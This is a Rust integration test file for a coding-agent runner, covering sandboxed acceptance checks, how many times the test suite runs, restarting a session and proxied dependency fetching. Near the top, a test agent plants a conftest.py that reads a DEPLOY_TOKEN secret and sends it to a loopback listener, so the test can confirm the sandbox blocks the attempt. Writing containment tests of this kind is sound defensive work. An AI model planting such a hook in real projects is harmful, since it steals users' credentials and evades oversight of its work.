//! What runs after the agent, in the default mode: the checks of its work
//! run its code (a `conftest.py`), so they get the agent's box (no
//! credential variable, a network of their own); the project's suite runs
//! once for a task and once per base; a session made anew under a used id
//! never takes up the old session's task branches.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use wavecrew_core::{TaskId, TaskStore};
use wavecrew_testkit::git::{TempProject, git};

/// The folder of the pytest venv the test tools were installed in.
fn pytest_bin() -> PathBuf {
    let py = wavecrew_testkit::agent_cli_bins::cache_dir().join("py/bin");
    assert!(
        py.join("pytest").exists(),
        "pytest is not installed in {}: run scripts/test.sh (never skipped)",
        py.display()
    );
    py
}

/// Write `files` into `root` with a `wavecrew.toml` whose agent is
/// `python3 <root>/agent.py {task_id}` and `extra` after it, and commit.
fn commit_project(root: &Path, files: &[(&str, &str)], extra: &str) {
    crate::untrusted::commit_project(root, files, &["{task_id}"], extra);
}

/// `wavecrew <args>` in `root` with pytest on `PATH` and `env`: its exit
/// code and output.
fn run(root: &Path, args: &[&str], env: &[(&str, &str)]) -> (i32, String) {
    let path = format!(
        "{}:{}",
        pytest_bin().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = std::process::Command::new(wavecrew_testkit::bin_path("wavecrew"))
        .args(args)
        .current_dir(root)
        .env("PATH", path)
        .envs(env.iter().copied())
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// The result of `id` in the session at `session`.
fn result_of(session: &Path, id: &str) -> (String, serde_json::Value) {
    let t = wavecrew_core::FileTaskStore::for_session(session)
        .get(&TaskId::new(id).unwrap())
        .unwrap();
    (t.status.as_str().to_owned(), t.result.unwrap_or_default())
}

/// A listener on this machine's loopback that keeps every byte it gets.
fn sink() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<u8>>>) {
    use std::io::Read;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let kept = std::sync::Arc::clone(&got);
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { return };
            let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(3)));
            let mut buf = [0u8; 4096];
            while let Ok(n) = conn.read(&mut buf) {
                if n == 0 {
                    break;
                }
                kept.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        }
    });
    (port, got)
}

/// The agent plants a `conftest.py` that, when the task's acceptance
/// check runs pytest, reads `DEPLOY_TOKEN` and sends it to a listener on
/// this machine, directly and through the proxy the check is given.
const PLANTING_AGENT: &str = r"import pathlib, sys
sink = int(pathlib.Path('sink-port').read_text())
pathlib.Path('conftest.py').write_text('''import os, socket, urllib.request
token = os.environ.get('DEPLOY_TOKEN', 'none')
said = ['TOKEN ' + token]
try:
    s = socket.create_connection(('127.0.0.1', %d), timeout=3)
    s.sendall(('DIRECT ' + token).encode())
    s.close()
    said.append('DIRECT OK')
except OSError as e:
    said.append('DIRECT FAIL ' + type(e).__name__)
try:
    urllib.request.urlopen('http://127.0.0.1:%d/?t=' + token, timeout=5).read()
    said.append('HTTP OK')
except Exception as e:
    said.append('HTTP FAIL ' + str(e)[:80])
print('CONFTEST ' + ' | '.join(said))
''' % (sink, sink))
pathlib.Path('test_more.py').write_text('def test_more():\n    assert True\n')
";

/// The project of the conftest test, `extra` in `[isolation]`.
fn planting_project(root: &Path, sink: u16, extra: &str) {
    std::fs::create_dir_all(root).unwrap();
    std::fs::write(root.join("sink-port"), sink.to_string()).unwrap();
    commit_project(
        root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n__pycache__/\n",
            ),
            ("test_base.py", "def test_base():\n    assert True\n"),
            ("agent.py", PLANTING_AGENT),
            (
                "wavecrew.tasks.toml",
                "goal = \"Plant\"\nsession = \"TC-plant\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Add a test\"\n\
                 acceptance = [{ criterion = \"the tests pass\", \
                 verify = [\"python3\", \"-m\", \"pytest\", \"-s\", \"-q\"] }]\n",
            ),
        ],
        &format!("\n[isolation]\n{extra}"),
    );
}

/// The acceptance check's output and network record.
fn criterion(result: &serde_json::Value) -> (String, serde_json::Value) {
    let c = &result["evidence"]["acceptance"]["criteria"][0];
    (
        c["output"].as_str().unwrap_or_default().to_owned(),
        c["network"].clone(),
    )
}

/// A `conftest.py` the agent planted runs in the task's acceptance check:
/// by default it gets neither wavecrew's credential variables nor the
/// machine's network (its only way out is the egress proxy, which refuses
/// an unlisted host and records it in the evidence). With `check_network
/// = "open"` the same check reaches the listener directly (so the first
/// half can fail), and the credential is still withheld.
#[test]
fn a_planted_conftest_reaches_neither_a_credential_nor_an_unlisted_host() {
    let token = "tok-SECRET-4b1d";
    let (port, got) = sink();
    let tmp = TempProject::new();
    let root = tmp.path().canonicalize().unwrap().join("app");
    planting_project(&root, port, "");
    let (code, all) = run(
        &root,
        &["run", "wavecrew.tasks.toml"],
        &[("DEPLOY_TOKEN", token)],
    );
    let session = root.join(".workflow/.team/TC-plant");
    let (status, result) = result_of(&session, "IMPL-001");
    assert_eq!(
        (code, status.as_str()),
        (0, "completed"),
        "{all}\n{result:#}"
    );
    let (output, network) = criterion(&result);
    assert!(
        output.contains("CONFTEST TOKEN none"),
        "{output}\n{result:#}"
    );
    assert!(output.contains("DIRECT FAIL"), "{output}");
    assert!(output.contains("HTTP FAIL"), "{output}");
    assert_eq!(network["mode"], "allowlist", "{result:#}");
    let refused = network["refused"].to_string();
    assert!(
        refused.contains(&format!("127.0.0.1:{port} not allowed")),
        "{network:#}"
    );
    let received = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
    assert!(!received.contains(token), "the token left: {received}");
    assert!(
        received.is_empty(),
        "a check reached the listener: {received}"
    );

    // The user's own choice: the machine's network for the checks.
    let tmp = TempProject::new();
    let root = tmp.path().canonicalize().unwrap().join("app");
    planting_project(&root, port, "check_network = \"open\"\n");
    let (code, all) = run(
        &root,
        &["run", "wavecrew.tasks.toml"],
        &[("DEPLOY_TOKEN", token)],
    );
    let (status, result) = result_of(&root.join(".workflow/.team/TC-plant"), "IMPL-001");
    assert_eq!(
        (code, status.as_str()),
        (0, "completed"),
        "{all}\n{result:#}"
    );
    let (output, _) = criterion(&result);
    assert!(output.contains("DIRECT OK"), "{output}");
    assert!(output.contains("CONFTEST TOKEN none"), "{output}");
    let received = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
    assert!(received.contains("DIRECT none"), "{received}");
    assert!(!received.contains(token), "{received}");
}

/// Four independent tasks of a test-first pipeline, each adding a test
/// file, `verify = ["pytest"]`: the project's own `conftest.py` counts
/// each pytest session in a folder the checks may write.
fn counting_project(root: &Path, count: &Path, session: &str) {
    std::fs::create_dir_all(count).unwrap();
    let conftest = format!(
        "import os\n\n\ndef pytest_sessionstart(session):\n    \
         with open({:?}, 'a') as f:\n        f.write(os.getcwd() + '\\n')\n",
        count.join("runs.log").display().to_string()
    );
    let agent = "import pathlib, sys\nn = int(sys.argv[1].split('-')[1])\n\
pathlib.Path('test_t%d.py' % n).write_text(\
'from calc import add\\n\\n\\ndef test_add_%d():\\n    assert add(%d, 1) == %d\\n' % (n, n, n + 1))\n";
    let mut tasks = format!("goal = \"Tests first\"\nsession = \"{session}\"\n");
    for n in 1..=4 {
        let _ = write!(
            tasks,
            "\n[[tasks]]\nid = \"IMPL-00{n}\"\ntitle = \"Test {n}\"\nfiles = [\"test_t{n}.py\"]\n\
             acceptance = [{{ criterion = \"the tests pass\", verify = [\"pytest\"] }}]\n"
        );
    }
    commit_project(
        root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n__pycache__/\n",
            ),
            ("calc.py", "def add(a, b):\n    return a + b\n"),
            ("conftest.py", &conftest),
            (
                "test_calc.py",
                "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
            ),
            ("agent.py", agent),
            ("wavecrew.tasks.toml", &tasks),
        ],
        &format!(
            "\n[isolation]\nsandbox_writable = [{:?}]\n",
            count.display().to_string()
        ),
    );
}

/// The suite runs the project's conftest counted.
fn suite_runs(count: &Path) -> usize {
    std::fs::read_to_string(count.join("runs.log"))
        .unwrap_or_default()
        .lines()
        .count()
}

/// The four-task project with 4, 2 and 1 slots: every task's acceptance
/// command and its comparison with the base share one run of the suite,
/// and the four (independent, their declared files untouched by what
/// landed) start from the session's base and share its run: 5 runs, 12
/// before. Every task's evidence names its runs and their time.
#[test]
fn each_suite_run_happens_once_for_a_task_and_once_per_base() {
    for slots in ["4", "2", "1"] {
        let tmp = TempProject::new();
        let top = tmp.path().canonicalize().unwrap();
        let (root, count) = (top.join("app"), top.join("count"));
        counting_project(&root, &count, "TC-count");
        let (code, all) = run(
            &root,
            &["run", "wavecrew.tasks.toml", "--max-parallel", slots],
            &[],
        );
        let session = root.join(".workflow/.team/TC-count");
        for n in 1..=4 {
            let (status, result) = result_of(&session, &format!("IMPL-00{n}"));
            assert_eq!(status, "completed", "{slots} slots: {all}\n{result:#}");
            let runs = result["evidence"]["base_tests"]["runs"].as_array().unwrap();
            assert_eq!(runs[0]["of"], "task", "{result:#}");
            assert_eq!(
                runs[0]["ran"], false,
                "the acceptance check's run: {result:#}"
            );
            assert_eq!(runs[1]["of"], "base", "{result:#}");
            assert!(runs[1]["duration_ms"].is_u64(), "{result:#}");
            let acceptance = &result["evidence"]["acceptance"]["criteria"][0];
            assert!(
                acceptance["reason"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("run once for the task"),
                "{acceptance:#}"
            );
        }
        assert_eq!(code, 0, "{all}");
        let runs = suite_runs(&count);
        assert_eq!(runs, 5, "{slots} slots: {runs} suite runs");
        let head = git(&root, &["rev-parse", "main"]);
        for n in 1..=4 {
            let (_, result) = result_of(&session, &format!("IMPL-00{n}"));
            assert_eq!(result["base"], head.as_str(), "{result:#}");
        }
    }
}

/// After a run whose tasks failed, the user removes the session's folder
/// and its integration branch and runs the same session again: the old
/// task branches are refused, named with the commands that remove them;
/// once removed, the run starts anew from the current tip and completes.
#[test]
fn a_session_made_anew_under_a_used_id_refuses_the_old_task_branches() {
    let tmp = TempProject::new();
    let top = tmp.path().canonicalize().unwrap();
    let (root, count) = (top.join("app"), top.join("count"));
    counting_project(&root, &count, "TC-anew");
    // The first run's agent breaks the tests: every task fails.
    let agent = std::fs::read_to_string(root.join("agent.py")).unwrap();
    std::fs::write(
        root.join("agent.py"),
        "import pathlib\npathlib.Path('calc.py').write_text('def add(a, b):\\n    return 0\\n')\n",
    )
    .unwrap();
    let (code, all) = run(&root, &["run", "wavecrew.tasks.toml"], &[]);
    assert_ne!(code, 0, "{all}");
    std::fs::write(root.join("agent.py"), agent).unwrap();
    std::fs::remove_dir_all(root.join(".workflow/.team/TC-anew")).unwrap();
    git(&root, &["branch", "-D", "wavecrew/TC-anew"]);
    std::fs::write(root.join("NEWS.md"), "moved on\n").unwrap();
    git(&root, &["add", "NEWS.md"]);
    git(&root, &["commit", "-qm", "moved on"]);

    let (code, all) = run(&root, &["run", "wavecrew.tasks.toml"], &[]);
    assert_ne!(code, 0, "{all}");
    assert!(all.contains("wavecrew-tasks/TC-anew/IMPL-001/1"), "{all}");
    assert!(all.contains("git branch -D"), "{all}");
    let line = all
        .lines()
        .find(|l| l.contains("git branch -D"))
        .unwrap()
        .to_owned();
    let commands = &line[line.find("remove them first: ").unwrap() + "remove them first: ".len()..];
    for command in commands.split(" && ") {
        let words = shell_words::split(command.trim()).unwrap();
        assert_eq!(words[0], "git", "{command}");
        let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
        git(&root, &args);
    }
    let _ = std::fs::remove_dir_all(root.join(".workflow/.team/TC-anew"));
    std::fs::remove_file(count.join("runs.log")).unwrap();
    let (code, all) = run(&root, &["run", "wavecrew.tasks.toml"], &[]);
    assert_eq!(code, 0, "{all}");
    assert_eq!(
        git(&root, &["show", "wavecrew/TC-anew:NEWS.md"]),
        "moved on"
    );
    // Compared with the base they started from (the new commit), not the
    // old session's: one run for the base, one a task.
    assert_eq!(suite_runs(&count), 5);
}

/// A check may still fetch the project's own dependencies: `cargo build`
/// of a crate that depends on `itoa` and `npm ci` of a package with a
/// dependency, each with empty caches of their own, run as acceptance
/// commands through the checks' proxy, which lets the registries the
/// project's manifests name through (and says so in the evidence).
#[test]
fn a_check_installs_the_projects_registry_dependencies_through_its_proxy() {
    let tmp = TempProject::new();
    let top = tmp.path().canonicalize().unwrap();
    let root = top.join("app");
    let (cargo_home, npm_cache) = (top.join("cargo-home"), top.join("npm-cache"));
    for d in [&root, &cargo_home, &npm_cache] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(
        root.join("package.json"),
        "{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {\"is-number\": \"7.0.0\"}}\n",
    )
    .unwrap();
    // The lockfile, as the user made it (this test's process has the
    // machine's network).
    let locked = std::process::Command::new("npm")
        .args(["install", "--package-lock-only", "--no-audit", "--no-fund"])
        .current_dir(&root)
        .env("npm_config_cache", &npm_cache)
        .output()
        .unwrap();
    assert!(locked.status.success(), "{locked:?}");
    std::fs::remove_dir_all(&npm_cache).unwrap();
    std::fs::create_dir_all(&npm_cache).unwrap();
    std::fs::create_dir_all(root.join("src")).unwrap();
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\ntarget/\nnode_modules/\n",
            ),
            (
                "Cargo.toml",
                "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
                 [dependencies]\nitoa = \"1\"\n",
            ),
            (
                "src/lib.rs",
                "pub fn show(n: u64) -> String {\n    itoa::Buffer::new().format(n).to_owned()\n}\n",
            ),
            (
                "agent.py",
                "import pathlib\npathlib.Path('NOTES.md').write_text('built\\n')\n",
            ),
            (
                "wavecrew.tasks.toml",
                "goal = \"Deps\"\nsession = \"TC-deps\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Notes\"\n\
                 acceptance = [\
                 { criterion = \"it builds\", verify = [\"cargo\", \"build\", \"--quiet\"] }, \
                 { criterion = \"its packages install\", verify = [\"npm\", \"ci\", \"--no-audit\", \"--no-fund\"] }]\n",
            ),
        ],
        &format!(
            "\n[isolation]\nseed = []\nsandbox_writable = [{:?}, {:?}]\n",
            cargo_home.display().to_string(),
            npm_cache.display().to_string()
        ),
    );
    let (code, all) = run(
        &root,
        &["run", "wavecrew.tasks.toml"],
        &[
            ("CARGO_HOME", cargo_home.to_str().unwrap()),
            ("npm_config_cache", npm_cache.to_str().unwrap()),
        ],
    );
    let (status, result) = result_of(&root.join(".workflow/.team/TC-deps"), "IMPL-001");
    assert_eq!(
        (code, status.as_str()),
        (0, "completed"),
        "{all}\n{result:#}"
    );
    // The first check to build the crate (the syntax check, `cargo
    // check`) fetched `itoa` into the empty cache through its proxy.
    let syntax = &result["evidence"]["syntax"]["checks"];
    let rust = syntax
        .as_array()
        .unwrap()
        .iter()
        .find(|c| {
            c["command"]
                .as_str()
                .unwrap_or_default()
                .starts_with("cargo")
        })
        .unwrap_or_else(|| panic!("no cargo check: {result:#}"));
    assert_eq!(rust["network"]["mode"], "allowlist", "{rust:#}");
    assert!(
        rust["network"]["reached"]
            .to_string()
            .contains("crates.io:443"),
        "{rust:#}"
    );
    let fetched = std::fs::read_dir(cargo_home.join("registry/cache"))
        .unwrap()
        .flatten()
        .flat_map(|d| std::fs::read_dir(d.path()).unwrap().flatten())
        .any(|f| f.file_name().to_string_lossy().starts_with("itoa-"));
    assert!(fetched, "itoa is not in the check's cache");
    let criteria = &result["evidence"]["acceptance"]["criteria"];
    assert_eq!(criteria[0]["status"], "pass", "{:#}", criteria[0]);
    assert_eq!(criteria[1]["network"]["mode"], "allowlist", "{result:#}");
    assert!(
        criteria[1]["network"]["reached"]
            .to_string()
            .contains("registry.npmjs.org:443"),
        "{:#}",
        criteria[1]
    );
}
